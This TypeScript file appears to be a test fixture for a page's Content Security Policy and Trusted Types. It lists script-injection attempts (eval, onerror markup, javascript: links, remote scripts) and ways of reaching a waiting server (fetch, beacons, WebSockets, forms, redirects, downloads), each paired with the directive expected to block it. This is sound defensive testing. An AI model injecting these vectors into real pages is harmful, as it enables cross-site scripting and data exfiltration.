/**
 * What somebody who got a foot into the page would try. Each is a script for the page, and says how one knows that it
 * did something: it calls out, it takes an element out of sight, it reaches a server, or it leads elsewhere.
 *
 * They are texts, because they are run in pages of programs that were not built from here.
 */

/** An attempt. In its script `address` is that of a server that lies in wait, and `prey` is an element of the page. */
export interface Breach {
  readonly name: string;
  readonly script: string;
  /** What the policy of the page reports when it stops this. */
  readonly stoppedBy: string;
}

const CALL_OUT = "window.breached = true";
const TRUSTED_TYPES = "require-trusted-types-for";

/** Scripts that would call out. */
export const SCRIPTS: readonly Breach[] = [
  {
    name: "a script element with words in it",
    script: `const it = document.createElement("script"); it.append("${CALL_OUT}"); document.body.append(it)`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "a script element that is told its words",
    script: `const it = document.createElement("script"); it.text = "${CALL_OUT}"; document.body.append(it)`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "a script from elsewhere",
    script: `const it = document.createElement("script"); it.src = address + "/script"; document.body.append(it)`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "a module from elsewhere",
    script: `import(address + "/script").catch(() => {})`,
    stoppedBy: "script-src-elem",
  },
  { name: "eval", script: `eval("${CALL_OUT}")`, stoppedBy: TRUSTED_TYPES },
  { name: "a new function", script: `new Function("${CALL_OUT}")()`, stoppedBy: TRUSTED_TYPES },
  { name: "a timer with words", script: `setTimeout("${CALL_OUT}", 0)`, stoppedBy: TRUSTED_TYPES },
  {
    name: "an attribute that is a handler",
    script: `prey.setAttribute("onclick", "${CALL_OUT}"); prey.click()`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "markup with a handler",
    script: `prey.innerHTML = '<img src="data:," onerror="${CALL_OUT}">'`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "a link that is a script",
    script: `const it = document.createElement("a"); it.href = "javascript:void(${CALL_OUT})"; document.body.append(it); it.click()`,
    stoppedBy: "script-src-elem",
  },
  {
    name: "a worker",
    script: `const url = URL.createObjectURL(new Blob(["postMessage(1)"])); new Worker(url).onmessage = () => { ${CALL_OUT} }`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "a page of one's own in a frame",
    script: `const it = document.createElement("iframe"); it.src = URL.createObjectURL(new Blob(["<script>parent.${CALL_OUT.replace("window.", "")}</script>"], { type: "text/html" })); document.body.append(it)`,
    stoppedBy: "frame-src",
  },
  {
    name: "a policy of one's own",
    script: `trustedTypes.createPolicy("mine", { createScript: (words) => words }); ${CALL_OUT}`,
    stoppedBy: "trusted-types",
  },
];

/** Styles that would take the element out of sight. */
export const STYLES: readonly Breach[] = [
  {
    name: "a style element",
    script: `const it = document.createElement("style"); it.textContent = "#prey { display: none }"; document.head.append(it)`,
    stoppedBy: "style-src-elem",
  },
  {
    name: "a style attribute",
    script: `prey.setAttribute("style", "display: none")`,
    stoppedBy: "style-src-attr",
  },
  {
    name: "markup with a style attribute",
    script: `prey.outerHTML = '<p id="prey" style="display: none"></p>'`,
    stoppedBy: TRUSTED_TYPES,
  },
  {
    name: "styles from elsewhere",
    script: `const it = document.createElement("link"); it.rel = "stylesheet"; it.href = address + "/style"; document.head.append(it)`,
    stoppedBy: "style-src-elem",
  },
];

/** Ways to the server. */
export const CALLS: readonly Breach[] = [
  { name: "an image", script: `new Image().src = address + "/image"`, stoppedBy: "img-src" },
  {
    name: "a fetch",
    script: `fetch(address + "/fetch", { mode: "no-cors" }).catch(() => {})`,
    stoppedBy: "connect-src",
  },
  {
    name: "a request",
    script: `const it = new XMLHttpRequest(); it.open("GET", address + "/request"); it.send()`,
    stoppedBy: "connect-src",
  },
  { name: "a beacon", script: `navigator.sendBeacon(address + "/beacon", "1")`, stoppedBy: "connect-src" },
  {
    name: "a socket",
    script: `new WebSocket(address.replace("http", "ws") + "/socket")`,
    stoppedBy: "connect-src",
  },
  { name: "a source of events", script: `new EventSource(address + "/events")`, stoppedBy: "connect-src" },
  { name: "a sound", script: `new Audio(address + "/sound").play().catch(() => {})`, stoppedBy: "media-src" },
  {
    name: "a font",
    script: `new FontFace("strange", "url(" + address + "/font)").load().catch(() => {})`,
    stoppedBy: "font-src",
  },
  {
    name: "a frame",
    script: `const it = document.createElement("iframe"); it.src = address + "/frame"; document.body.append(it)`,
    stoppedBy: "frame-src",
  },
  {
    name: "an object",
    script: `const it = document.createElement("object"); it.data = address + "/object"; document.body.append(it)`,
    stoppedBy: "object-src",
  },
  {
    name: "a form",
    script: `const it = document.createElement("form"); it.action = address + "/form"; document.body.append(it); it.submit()`,
    stoppedBy: "form-action",
  },
];

/** What the page's policy has no word for; the window refuses it. */
export type Errand = Omit<Breach, "stoppedBy">;

/** Ways out of the page, to the server, in this window or another. */
export const WAYS_OUT: readonly Errand[] = [
  { name: "another address", script: `location.href = address + "/away"` },
  {
    name: "a link",
    script: `const it = document.createElement("a"); it.href = address + "/link"; document.body.append(it); it.click()`,
  },
  {
    name: "a link to a new window",
    script: `const it = document.createElement("a"); it.href = address + "/blank"; it.target = "_blank"; document.body.append(it); it.click()`,
  },
  { name: "a new window", script: `open(address + "/window")` },
  {
    name: "a page that leads on",
    script: `const it = document.createElement("meta"); it.httpEquiv = "refresh"; it.content = "0; url=" + address + "/refresh"; document.head.append(it)`,
  },
];

/** Files that would be put onto the disk. */
export const DOWNLOADS: readonly Errand[] = [
  {
    name: "a download of data",
    script: `const it = document.createElement("a"); it.href = "data:application/octet-stream,words"; it.download = "data.bin"; document.body.append(it); it.click()`,
  },
  {
    name: "a download of a blob",
    script: `const it = document.createElement("a"); it.href = URL.createObjectURL(new Blob(["words"])); it.download = "blob.bin"; document.body.append(it); it.click()`,
  },
  {
    name: "a download from elsewhere",
    script: `const it = document.createElement("a"); it.href = address + "/file"; it.download = "file.bin"; document.body.append(it); it.click()`,
  },
];
